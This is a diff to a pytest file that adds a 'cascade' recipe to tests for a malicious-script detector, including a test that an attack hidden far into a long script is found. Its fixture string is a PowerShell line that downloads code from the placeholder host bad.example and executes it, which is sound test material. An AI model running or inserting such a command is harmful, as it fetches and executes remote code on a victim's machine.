@@ -22,6 +22,7 @@ class TestRecipes:
         assert names == [
             *("linear", "probe", "hybrid", "contrastive", "full", "lora", "boosted"),
             "auto",
+            "cascade",
         ]
         assert "auto" not in MEMBERS
 
@@ -36,7 +37,9 @@ class TestRecipes:
 class TestLongTexts:
     """A script whose only malicious part begins at 50,000 characters."""
 
-    @pytest.mark.parametrize("name", ["linear", "probe", "hybrid", "full", "lora", "auto"])
+    @pytest.mark.parametrize(
+        "name", ["linear", "probe", "hybrid", "full", "lora", "auto", "cascade"]
+    )
     def test_attack_far_inside_is_found(
         self, name: str, tiny: EncoderSettings, tmp_path: Path
     ) -> None:
@@ -44,6 +47,7 @@ class TestLongTexts:
         encoder = tiny.model_copy(update={"overlap": 4})
         tuned = {"epochs": 6, "batch_size": 8, "learning_rate": 2e-3, "encoder": encoder}
         own: dict[str, dict[str, Any]] = {"linear": {}, "full": tuned, "lora": tuned}
+        own["cascade"] = {"then": "hybrid", "encoder": encoder}
         config = recipe.config_model(**own.get(name, {"encoder": encoder}))
         model = recipe.fit(job_of(training_scripts(), tmp_path, config=config))
         attack = "IEX (New-Object Net.WebClient).DownloadString('http://bad.example/b')"
